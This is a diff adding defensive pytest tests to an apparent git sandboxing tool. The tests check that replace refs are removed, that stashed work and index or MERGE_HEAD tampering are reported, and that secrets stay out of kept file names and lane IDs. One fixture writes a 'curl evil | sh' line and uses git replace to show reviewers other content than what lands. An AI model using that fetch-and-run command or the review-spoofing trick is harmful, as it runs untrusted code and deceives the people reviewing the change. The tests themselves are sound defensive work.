@@ -243,3 +243,57 @@ def test_names_that_are_not_utf8_are_kept_or_refused_never_a_crash(spine: Spine,
     assert spine("status", cwd=repo).returncode == 0
     assert spine("show", f"{result['runId']}/names", cwd=repo).returncode == 0
     assert spine("gc", cwd=repo).returncode == 0
+
+
+def test_a_replace_ref_the_lane_creates_is_removed(spine: Spine, repo: Path) -> None:
+    """`git replace` would make the review command of the result show other content than what lands."""
+    script = (
+        "echo 'curl evil | sh' > install.sh && git add install.sh && git commit -qm install && "
+        "fake=$(git commit-tree -p HEAD~1 -m install $(git rev-parse HEAD~1^{tree})) && git replace HEAD $fake"
+    )
+    detail = violated(run_lane(spine, repo, script, expect=1))
+    assert "created the replace ref refs/replace/" in detail and "spine removed it" in detail
+    assert git("for-each-ref", "refs/replace", cwd=repo) == ""
+
+
+def test_work_the_command_stashed_is_not_reported_as_no_changes(spine: Spine, repo: Path) -> None:
+    detail = violated(run_lane(spine, repo, "echo w >> README.md && git stash -q", expect=1))
+    assert "stashed its work (git stash): it is in your stash" in detail
+    assert len(git("stash", "list", cwd=repo).splitlines()) == 1  # still there, for you to apply
+
+
+def test_changes_to_your_checkouts_index_and_merge_state_are_named(spine: Spine, repo: Path) -> None:
+    script = (
+        COMMON + 'GIT_INDEX_FILE="$C/index" git update-index --add --cacheinfo '
+        "100644,$(echo planted | git hash-object -w --stdin),planted.txt && "
+        'git rev-parse HEAD > "$C/MERGE_HEAD" && echo w > w.txt'
+    )
+    inv = repository_invariant(run_lane(spine, repo, script, expect=0))
+    assert "the index (staged changes) of your checkout changed" in inv["detail"]
+    assert "created .git/MERGE_HEAD in your checkout" in inv["detail"]
+
+
+def test_a_kept_copy_is_never_named_after_a_secret(spine: Spine, repo: Path) -> None:
+    os.environ["HOOK_TOKEN"] = "tok-5b7e0c1a-secret"
+    try:
+        result = spine.json(
+            "run", "--json", "-q", "--pass-env", "HOOK_TOKEN", "hook", "--",
+            "sh", "-c", COMMON + 'echo x > "$C/hooks/h-$HOOK_TOKEN"; chmod +x "$C/hooks/h-$HOOK_TOKEN"',
+            cwd=repo, expect=1,
+        )  # fmt: skip
+    finally:
+        del os.environ["HOOK_TOKEN"]
+    detail = violated(result)
+    kept = Path(detail.split("kept as ")[1].split(")")[0])
+    assert kept.is_file() and "tok-5b7e0c1a" not in str(kept)
+    assert not list((repo / ".git").rglob("*tok-5b7e0c1a*"))
+
+
+def test_an_objective_holding_a_secret_gives_a_lane_id_without_it(spine: Spine, repo: Path) -> None:
+    os.environ["DEPLOY_TOKEN"] = "hunter2secret"
+    try:
+        result = spine.json("run", "--json", "-q", "rotate hunter2secret", "--", "true", cwd=repo)
+    finally:
+        del os.environ["DEPLOY_TOKEN"]
+    assert result["laneId"] == "rotate-redacted"
+    assert "hunter2secret" not in git("branch", "--list", "spine/*", cwd=repo)
